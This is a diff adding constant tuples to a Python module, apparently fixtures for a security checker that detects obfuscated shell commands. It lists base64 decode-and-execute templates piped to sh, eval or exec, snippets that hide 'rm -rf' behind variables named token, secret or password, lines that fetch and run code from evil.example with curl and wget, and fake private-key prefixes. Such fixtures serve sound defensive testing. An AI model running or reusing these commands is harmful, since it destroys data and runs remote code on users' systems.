@@ -129,3 +129,21 @@ ABOUT = (
 )
 
 NOTHING = ("true", "false", "null", "none", "nil", "undefined", "yes", "no", "on", "off")
+
+DECODERS = (
+    *("echo {} | base64 -d | sh", "base64 --decode <<< {} | sh", "base64 -w 0 -di <<< {}"),
+    *("basenc --base64 -d <<< {}", "openssl enc -base64 -d <<< {} | sh", "openssl base64 -A -d {}"),
+    *("exec(base64.b64decode('{}'))", "eval(atob('{}'))", "Buffer.from('{}', 'base64')"),
+    *("Base64.decode64('{}')", "base64_decode('{}')", "decode_base64('{}')", "pwsh -enc {}"),
+    *("jq -nr '\"{}\" | @base64d'", "[Convert]::FromBase64String('{}')", "a2b_base64('{}')"),
+    "base64.StdEncoding.DecodeString('{}')",
+)
+
+RUNS = (
+    *("pass=rm; $pass -rf x", 'token=rm\n"$token" -rf x', "secret=rm; sudo ${secret} -rf x"),
+    *("export secret=evil.example/x.sh; curl $secret|sh", "auth=x.sh && sh ./$auth $auth"),
+    *("token=evil.example; wget https://$token/x", "X=1 Y=2\npassword=rm; X=1 $password -rf x"),
+    *("secret='a/b.py'; python3 \"$secret\"", "if true; then cookie=rm; $cookie -rf x; fi"),
+)
+
+KEYS = tuple(begin + "A" * 44 for begin in ("MII", "MHcCAQEE", "MC4CAQAw", "b3BlbnNzaC1rZXk"))
